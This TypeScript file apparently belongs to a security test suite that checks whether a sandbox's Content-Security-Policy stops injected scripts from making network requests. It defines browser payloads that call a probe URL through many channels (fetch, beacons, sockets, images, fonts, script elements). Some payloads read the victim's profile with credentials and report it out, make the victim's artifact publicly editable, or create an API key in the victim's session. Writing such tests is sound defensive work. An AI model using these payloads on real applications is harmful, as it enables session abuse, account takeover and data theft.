// Requests of a script: everything that connect-src covers, with the victim's credentials where possible.
import { family, script } from "./payload.ts";

const ask = (call: (hit: string) => string) => script(({ hit }) => call(hit()));
const asApp = (way: (app: string) => string) =>
  script(({ app, tell }) => `const text = ${way(app)}; ${tell("profile", "text")}`);

export const network = family("network", {
  fetch: ask((hit) => `await fetch("${hit}", { mode: "no-cors" });`),
  "fetch-post": ask((hit) => `await fetch("${hit}", { method: "POST", mode: "no-cors", body: document.title });`),
  "fetch-keepalive": ask((hit) => `fetch("${hit}", { keepalive: true, mode: "no-cors" });`),
  "fetch-later": ask((hit) => `await fetchLater("${hit}", { activateAfter: 0 });`),
  request: ask((hit) => `const x = new XMLHttpRequest(); x.open("GET", "${hit}"); x.send();`),
  "request-waiting": ask((hit) => `const x = new XMLHttpRequest(); x.open("GET", "${hit}", false); x.send();`),
  beacon: ask((hit) => `navigator.sendBeacon("${hit}", "x");`),
  "beacon-at-leaving": ask(
    (hit) =>
      `addEventListener("pagehide", () => navigator.sendBeacon("${hit}", "x")); setTimeout(() => location.reload(), 50);`,
  ),
  events: ask((hit) => `window.kept = new EventSource("${hit}");`),
  socket: ask((hit) => `window.kept = new WebSocket("${hit.replace("http", "ws")}");`),
  "socket-stream": ask((hit) => `await new WebSocketStream("${hit.replace("http", "ws")}").opened;`),
  transport: script(
    ({ datagrams }) => `window.kept = new WebTransport("https://${datagrams}/x"); await window.kept.ready;`,
  ),
  "image-of-script": ask((hit) => `new Image().src = "${hit}";`),
  "audio-of-script": ask((hit) => `new Audio("${hit}").play();`),
  "font-of-script": ask((hit) => `await new FontFace("x", "url(${hit})").load();`),
  "style-of-script": ask(
    (hit) =>
      `const s = new CSSStyleSheet(); s.replaceSync("p{background:url(${hit})}"); document.adoptedStyleSheets = [s]; document.body.append(document.createElement("p"));`,
  ),
  "element-of-script": ask(
    (hit) => `const s = document.createElement("script"); s.src = "${hit}"; document.body.append(s);`,
  ),
  "profile-fetched": asApp((app) => `await (await fetch("${app}/api/profile/me", { credentials: "include" })).text()`),
  "profile-asked": asApp(
    (app) =>
      `await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = () => ok(x.responseText); x.onerror = no; x.open("GET", "${app}/api/profile/me"); x.send(); })`,
  ),
  "access-changed": script(
    ({ app, victim, tell }) =>
      `const r = await fetch("${app}/api/artifacts/${victim}/access", { method: "PATCH", credentials: "include", headers: { "content-type": "application/json" }, body: '{"publicEdit":true}' }); ${tell("access", "r.status")}`,
  ),
  "access-by-beacon": script(
    ({ app, victim, hit }) =>
      `navigator.sendBeacon("${app}/api/artifacts/${victim}/access", new Blob(['{"publicEdit":true}'], { type: "text/plain" })); new Image().src = "${hit()}";`,
  ),
  "key-made": script(
    ({ app, tell }) =>
      `const r = await fetch("${app}/api/api-keys", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: '{"name":"x","scopes":["artifacts:read"]}' }); const text = await r.text(); ${tell("key", "r.status + text")}`,
  ),
  reporting: ask(
    (hit) =>
      `const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri ${hit}"; document.head.append(m); new Image().src = "${hit}"; await fetch("${hit}", { mode: "no-cors" });`,
  ),
});
